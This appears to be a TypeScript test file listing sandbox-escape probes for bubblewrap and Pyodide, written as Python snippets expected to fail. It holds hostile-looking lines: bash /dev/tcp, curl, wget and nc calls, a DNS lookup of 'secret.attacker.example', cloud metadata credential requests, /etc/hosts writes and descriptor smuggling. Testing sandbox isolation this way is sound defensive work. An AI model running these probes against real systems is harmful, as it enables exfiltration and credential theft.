import type { ListedAttack } from "./attack.ts";
import { python } from "./tools.ts";

/** Connections, datagrams and lookups, each tried within half a second. */
const REACH = python`
def connect(host, port, family=None):
    def attempt():
        with (socket.create_connection((host, port), timeout=0.5) if family is None else socket.socket(family)) as s:
            if family is not None:
                s.settimeout(0.5)
                s.connect((host, port))
            s.sendall(b"hello")
            return "connected"
    return attempt
def send(host, port):
    def attempt():
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.sendto(b"hello", (host, port))
            s.settimeout(0.2)
            return s.recv(99)  # to its own loopback it may send; nobody answers there
    return attempt
def look_up(name):
    return lambda: socket.getaddrinfo(name, 80)
`;

const inBubblewrap: readonly ListedAttack[] = [
  {
    name: "connects to a port of the host at every address",
    kinds: ["bubblewrap"],
    code: python`${REACH}
result = succeeded({host: connect(host, context["port"]) for host in ["127.0.0.1", "localhost", "::1", "0.0.0.0", "::ffff:127.0.0.1", "127.1.2.3", *context["hosts"]]})`,
  },
  {
    name: "sends datagrams to the host, to the network and to all",
    kinds: ["bubblewrap"],
    code: python`${REACH}
result = succeeded({host: send(host, context["port"]) for host in ["127.0.0.1", "::1", "255.255.255.255", "224.0.0.1", "ff02::1", "192.0.2.1", *context["hosts"]]})`,
  },
  {
    name: "connects to unix sockets of the host, abstract ones included",
    kinds: ["bubblewrap"],
    code: python`
paths = [*context["sockets"], "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/containerd/containerd.sock", "/run/systemd/notify", "/run/systemd/journal/socket", "\0/org/freedesktop/systemd1"]
def reach(kind, path):
    return lambda: socket.socket(socket.AF_UNIX, kind).connect(path)
result = succeeded({f"{path!r} {kind}": reach(kind, path) for path in paths for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET)})`,
  },
  {
    name: "opens sockets of every family and kind",
    kinds: ["bubblewrap"],
    code: python`
def opening(family, kind, protocol=0):
    return lambda: socket.socket(family, kind, protocol).close()
others = [family for family in range(64) if family not in (1, 2, 10)]
result = succeeded({f"{family} {kind}": opening(family, kind) for family in others for kind in (1, 2, 3, 5)})
result += succeeded({f"raw {family} {protocol}": opening(family, 3, protocol) for family in (2, 10) for protocol in (1, 6, 17, 255)})
result += succeeded({f"pair {family}": lambda: socket.socketpair(family) for family in others})`,
  },
  {
    name: "speaks protocols beyond those of the internet's usual clients",
    kinds: ["bubblewrap"],
    code: python`
def opening(family, kind, protocol):
    return lambda: socket.socket(family, kind, protocol).close()
result = succeeded({f"{family} {kind} {protocol}": opening(family, kind, protocol) for family in (2, 10) for kind in (1, 2, 5, 6) for protocol in (2, 33, 41, 46, 47, 50, 115, 132, 136, 256, 262)})`,
  },
  {
    name: "looks names up, each with a secret in it",
    kinds: ["bubblewrap"],
    code: python`${REACH}
names = ["example.com", "secret.attacker.example", "metadata.google.internal", socket.gethostname() + ".local", "host.docker.internal", "gateway", "_gateway"]
servers = ["127.0.0.53", "8.8.8.8", "1.1.1.1", "169.254.169.253", *[line.split()[1] for line in (open("/etc/resolv.conf") if os.path.exists("/etc/resolv.conf") else []) if line.startswith("nameserver")]]
result = succeeded({**{name: look_up(name) for name in names}, **{server: send(server, 53) for server in servers}, **{f"tcp {server}": connect(server, 53) for server in servers}})`,
  },
  {
    name: "asks the machine's cloud for its credentials",
    kinds: ["bubblewrap"],
    code: python`${REACH}
import urllib.request
urls = ["http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/", "http://metadata.google.internal/", "http://100.100.100.200/", "http://169.254.170.2/", "http://192.0.0.192/"]
result = succeeded({url: (lambda url=url: urllib.request.urlopen(url, timeout=0.5)) for url in urls})`,
  },
  {
    name: "reaches out by the tools that it finds",
    kinds: ["bubblewrap"],
    code: python`
port = context["port"]
commands = ["bash -c 'exec 3<>/dev/tcp/127.0.0.1/PORT'", "bash -c 'echo x > /dev/udp/HOST/PORT'", "curl -m1 http://HOST:PORT/", "wget -T1 -qO- http://HOST:PORT/", "nc -w1 HOST PORT < /dev/null",
    "perl -MIO::Socket -e 'IO::Socket::INET->new(\"HOST:PORT\") or exit 1'", "ping -c1 -W1 HOST", "ssh -o ConnectTimeout=1 HOST true", "getent hosts example.com", "openssl s_client -connect HOST:PORT < /dev/null"]
hosts = context["hosts"][:1]
result = succeeded({f"{command} {host}": shell(command.replace("HOST", host).replace("PORT", str(port))) for command in commands for host in hosts if host in command or "127" not in command})
result += succeeded({"loopback": shell(commands[0].replace("PORT", str(port)))})`,
  },
  {
    name: "makes an interface or a route of its own",
    kinds: ["bubblewrap"],
    code: python`
import fcntl, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
name = struct.pack("16sH22x", b"lo", 0x1043)
result = succeeded({"tun": lambda: os.open("/dev/net/tun", os.O_RDWR), "flags": lambda: fcntl.ioctl(s, 0x8914, name), "address": lambda: fcntl.ioctl(s, 0x8916, struct.pack("16sHH4s16x", b"lo", 2, 0, b"\x0a\0\0\1")),
    "route": lambda: fcntl.ioctl(s, 0x890B, bytes(120)), "bridge": lambda: fcntl.ioctl(s, 0x89A0, b"br0".ljust(16, b"\0")), "tool": shell("ip link add d0 type dummy || ip route add default dev lo || ifconfig lo mtu 9000"),
    "forward": lambda: open("/proc/sys/net/ipv4/ip_forward", "w"), "device": lambda: s.setsockopt(socket.SOL_SOCKET, 25, b"eth0\0")})
result += [line.split(":")[0] for line in open("/proc/net/dev").read().splitlines()[2:] if line.split(":")[0].strip() != "lo"]`,
  },
  {
    name: "goes beyond the one target that it has",
    kinds: ["bubblewrap"],
    network: true,
    code: python`${REACH}
port, allowed = context["port"], context["allowedPort"]
assert connect("allowed.example", allowed)() == "connected"
tries = [("allowed.example", port), ("127.0.0.1", port), ("127.0.0.2", port), ("127.0.0.3", allowed), ("127.0.0.1", allowed), ("::1", allowed), ("::1", port), ("other.example", allowed), ("x.allowed.example", allowed),
    ("allowed.example.", port), ("192.0.2.1", allowed), ("169.254.169.254", 80), *[(host, port) for host in context["hosts"]], *[(host, allowed) for host in context["hosts"]]]
result = succeeded({f"{host}:{number}": connect(host, number) for host, number in tries})`,
  },
  {
    name: "has the host's end of its connection lead elsewhere",
    kinds: ["bubblewrap"],
    network: true,
    code: python`
def talk(path, words):
    def attempt():
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(0.5)
            s.connect(path)
            s.sendall(words)
            return s.recv(99)
    return attempt
port = context["port"]
asked = [f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n".encode(), b"\x05\x01\x00\x05\x01\x00\x01\x7f\0\0\1" + port.to_bytes(2, "big"), f"PROXY TCP4 1.1.1.1 127.0.0.1 1 {port}\r\n".encode()]
for words in asked: assert talk("/run/targets/0", words)() == b"allowed"  # they go to the target, and to nobody else
result = succeeded({"another": talk("/run/targets/1", b"x"), "above": talk("/run/targets/../1", b"x"), "remove": lambda: os.remove("/run/targets/0"), "rename": lambda: os.rename("/run/targets/0", "/run/targets/1"),
    "own": lambda: socket.socket(socket.AF_UNIX).bind("/run/targets/1"), "hosts": lambda: open("/etc/hosts", "a"), "places": lambda: need([name for name in os.listdir("/run/targets") if name != "0"]),
    "low port": lambda: socket.socket().bind(("127.0.0.1", 25)), "above all": lambda: need([name for name in os.listdir("/run") if name != "targets"])})`,
  },
  {
    name: "takes the driver's place at its target's address",
    kinds: ["bubblewrap"],
    network: true,
    code: python`
def bind(host, port):
    def attempt():
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        s.bind((host, port))
        s.listen()
        return "bound"
    return attempt
address = socket.gethostbyname("allowed.example")
result = succeeded({host: bind(host, context["allowedPort"]) for host in (address, "0.0.0.0")})`,
  },
  {
    name: "passes its descriptors to the host, and takes the host's",
    kinds: ["bubblewrap"],
    network: true,
    code: python`
result = []
for _ in range(3):
    s = socket.socket(socket.AF_UNIX)
    s.connect("/run/targets/0")
    given = [os.open("/etc/passwd", os.O_RDONLY), *[os.dup(s.fileno()) for _ in range(50)]]
    socket.send_fds(s, [b"x"], given)
    for number in given: os.close(number)
    s.settimeout(0.5)
    _, descriptors, _, _ = socket.recv_fds(s, 99, 16)
    result += [os.readlink(f"/proc/self/fd/{number}") for number in descriptors]`,
  },
  {
    name: "holds more connections open than it may",
    kinds: ["bubblewrap"],
    network: true,
    limits: { timeoutMs: 20_000 },
    code: python`
kept, open_ones = [], 0
for _ in range(100):
    s = socket.socket()
    s.settimeout(1)
    try:
        s.connect(("allowed.example", context["allowedPort"]))
        kept.append(s)
        open_ones += s.recv(7) == b"allowed"
    except OSError:
        pass
direct = 0
for _ in range(280):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(1)
    try:
        s.connect("/run/targets/0")
        kept.append(s)
        direct += s.recv(7) == b"allowed"
    except OSError:
        if direct + open_ones > 200: break
result = [] if open_ones <= 64 and open_ones + direct <= 256 else [open_ones, direct]`,
  },
];

const inPyodide: readonly ListedAttack[] = [
  {
    name: "reaches out by the standard library",
    kinds: ["pyodide"],
    code: python`
import asyncio, ftplib, http.client, imaplib, smtplib, socket, urllib.request
port = context["port"]
url = f"http://127.0.0.1:{port}/"
result = succeeded({
    "http": lambda: urllib.request.urlopen(url, timeout=1).read(), "client": lambda: http.client.HTTPConnection("127.0.0.1", port, timeout=1).request("GET", "/"),
    "socket": lambda: socket.create_connection(("127.0.0.1", port), 1).recv(10), "unix": lambda: socket.socket(socket.AF_UNIX).connect(context["sockets"][1]),
    "datagram": lambda: need(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", port)) and False), "imap": lambda: imaplib.IMAP4("127.0.0.1", port), "smtp": lambda: smtplib.SMTP("127.0.0.1", port),
    "ftp": lambda: ftplib.FTP("127.0.0.1", timeout=1), "asyncio": lambda: asyncio.run(asyncio.open_connection("127.0.0.1", port)),
})`,
  },
  {
    name: "reaches out by Pyodide's loader",
    kinds: ["pyodide"],
    code: python`
url = f"http://127.0.0.1:{context['port']}/x.whl"
ways = ("_api.loadBinaryFile", "loadPackage", "loadPackagesFromImports", "_api.loadPackage", "_module.readAsync", "_api.packageManager.loadPackage", "fetch", "_api.fetch", "pyimport")
succeeded(each(ways, lambda proxy, name: attribute(proxy, name)(url)))
succeeded(each(("useNodeSockFS", "_module.useNodeSockFS", "_api.initializeNodeSockFS", "_module.initializeNodeSockFS"), lambda proxy, name: attribute(proxy, name)()))
import socket
result = succeeded({"socket": lambda: socket.create_connection(("127.0.0.1", context["port"]), 1).recv(10)})`,
  },
  {
    name: "reaches out by the C library under the interpreter",
    kinds: ["pyodide"],
    ends: ["ok", "error"],
    code: python`
import ctypes
libc = ctypes.CDLL(None)
address = (2).to_bytes(2, "little") + context["port"].to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
s = libc.socket(2, 1, 0)
libc.connect(s, address, 16)
libc.send(s, b"hello", 5, 0)
libc.sendto(libc.socket(2, 2, 0), b"hello", 5, 0, address, 16)
result = []
succeeded({name: (lambda name=name: getattr(libc, name)(f"http://127.0.0.1:{context['port']}/".encode(), b"/tmp/x")) for name in ("emscripten_wget", "emscripten_fetch", "emscripten_async_wget")})`,
  },
  {
    name: "reaches out by what browsers and Node have for it",
    kinds: ["pyodide"],
    code: python`
url = f"http://127.0.0.1:{context['port']}/"
names = ("fetch", "WebSocket", "XMLHttpRequest", "EventSource", "importScripts", "Request", "navigator.sendBeacon", "Image", "net", "http", "_module.SOCKFS.websocketArgs", "_module.websocket")
def reach(proxy, name):
    found = attribute(proxy, name)
    for attempt in (lambda: found(url), lambda: found.new(url), lambda: found.connect(context["port"])):
        succeeded({"it": attempt})
    return need(name[0].isupper() or name == "fetch")
result = succeeded(each(names, reach))`,
  },
];

/** Programs that speak to anybody but their driver and their targets. */
export const egressAttacks: readonly ListedAttack[] = [...inBubblewrap, ...inPyodide];
